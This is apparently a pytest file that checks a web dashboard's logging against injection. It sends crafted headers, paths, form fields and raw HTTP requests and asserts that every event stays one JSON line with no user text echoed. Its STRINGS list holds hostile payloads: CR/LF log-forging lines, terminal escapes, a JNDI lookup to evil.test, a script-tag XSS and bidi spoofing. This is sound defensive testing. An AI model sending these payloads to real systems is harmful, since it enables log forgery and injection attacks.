"""T-A22: an event is one line of the log, whatever is sent."""

import json
import re
import socket
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest

from dashboard.web.security.events import SecurityEvent
from tests.faults.support.people import serve_people
from tests.support.browsing import HTMX, Visitor
from tests.support.sampling import all_of
from tests.support.servers.simulator_process import RunningSimulator
from tests.support.settings import safe_settings

FORGED = '{"event": "request", "level": "info", "method": "FORGED"}'
STRINGS = [
    f"canary\n{FORGED}",
    f"canary\r\n{FORGED}",
    f"canary\r{FORGED}",
    f"canary\n\n{FORGED}\n\n",
    f"canary%0a{FORGED}",
    f"canary%0d%0a{FORGED}",
    f"canary%250a{FORGED}",
    f"canary\x0b{FORGED}",
    f"canary\x0c{FORGED}",
    f"canary\x1c{FORGED}",
    f"canary\x1d{FORGED}",
    f"canary\x1e{FORGED}",
    f"canary\x85{FORGED}",
    f"canary\u2028{FORGED}",
    f"canary\u2029{FORGED}",
    "canary\x00after",
    "canary\x08\x08\x08\x08over",
    "canary\x7f",
    "canary\x1b[2J\x1b[H",
    "canary\x1b[31mred\x1b[0m",
    "canary\x1b]0;title\x07",
    "canary\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\",
    "canary\x9b31m",
    "canary\u202egnp.exe",
    "canary\u2066\u2067\u2068\u2069",
    "canary\u200b\u200d\ufeff",
    'canary","level":"error","x":"',
    "canary\\n\\r\\u000a",
    "canary{0}{1.__class__}%s%(name)s%n",
    "canary${jndi:ldap://evil.test/x}",
    "canary<script>alert(1)</script>",
    "canary" + "x" * 5000,
]
LOGGED = {"request", "partner_error", "breaker_opened", "breaker_tries"}
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def lines(text: str) -> list[str]:
    """Return the lines as any reader of a log may split them."""
    assert not CONTROLS.search(text)
    return text.splitlines()


@all_of("string", STRINGS)
def test_one_event_is_one_line_of_json(
    capsys: pytest.CaptureFixture[str], support: Visitor, simulator: RunningSimulator, string: str
) -> None:
    simulator.set_faults([{"status": 503}])
    capsys.readouterr()
    one_line = string.translate({ord(char): " " for char in "\r\n"})
    headers = {"User-Agent": one_line, "Referer": one_line, "X-Request-Id": one_line, **HTMX}
    headers = {
        name: value.encode("latin-1", "replace").decode("latin-1")
        for name, value in headers.items()
    }
    support.http.get("/users", query_string={"q": string, string: "x"}, headers=headers)
    support.http.get(f"/{quote(string)}")
    support.http.get(f"/link/{quote(string, safe='')}")
    support.http.post("/login", data={"email": string, "password": string, "next": string})
    events = [json.loads(line) for line in lines("".join(capsys.readouterr()))]
    assert [event["event"] for event in events if event["event"] == "request"] == ["request"] * 4
    assert {event["event"] for event in events} <= {*LOGGED, *SecurityEvent}
    assert "canary" not in json.dumps(events)
    assert "FORGED" not in json.dumps(events)


def test_a_word_that_is_no_method_of_http_is_not_logged(
    capsys: pytest.CaptureFixture[str], visitor: Visitor
) -> None:
    visitor.http.open("/users", method="CANARY", headers={"Origin": "https://evil.test"})
    visitor.http.open("/nowhere", method="canary" * 1000)
    logged = "".join(capsys.readouterr())
    assert "canary" not in logged.lower()
    events = [json.loads(line) for line in lines(logged)]
    assert [each["method"] for each in events if each["event"] == "request"] == ["OTHER"] * 2


@pytest.mark.long
def test_gunicorn_writes_one_line_a_request_too(
    simulator_process: RunningSimulator, migrated: Path, tmp_path: Path
) -> None:
    settings = safe_settings(tmp_path, simulator_process)
    access = {"GUNICORN_CMD_ARGS": "--access-logfile=-"}
    with serve_people(tmp_path, migrated, settings, **access) as served:
        before = len((tmp_path / "web.log").read_text().splitlines())
        port = urlsplit(served.base_url).port or 0
        for string in STRINGS:
            sent = string.encode()
            ask(port, b"GET /users?q=" + quote(sent).encode() + b" HTTP/1.1\r\nHost: localhost")
            ask(port, b"GET /users HTTP/1.1\r\nHost: localhost\r\nUser-Agent: " + sent)
            ask(port, b"GET /" + sent + b" HTTP/1.1\r\nHost: localhost")
            ask(port, sent + b" / HTTP/1.1\r\nHost: localhost")
        ask(port, b"CANARY / HTTP/1.1\r\nHost: localhost")
        log = (tmp_path / "web.log").read_bytes().decode(errors="replace")
    written = lines(log)[before:]
    assert "canary" not in log.lower()
    assert len(written) > 2 * len(STRINGS)
    for line in written:
        assert re.match(r'\{"|\[\d{4}-|127\.0\.0\.1 \[| ', line), line[:200]
        assert not line.startswith('{"event": "request", "level": "info", "method": "FORGED"')


def ask(port: int, head: bytes) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=60) as line:
        line.sendall(head + b"\r\nConnection: close\r\n\r\n")
        while line.recv(65536):
            pass
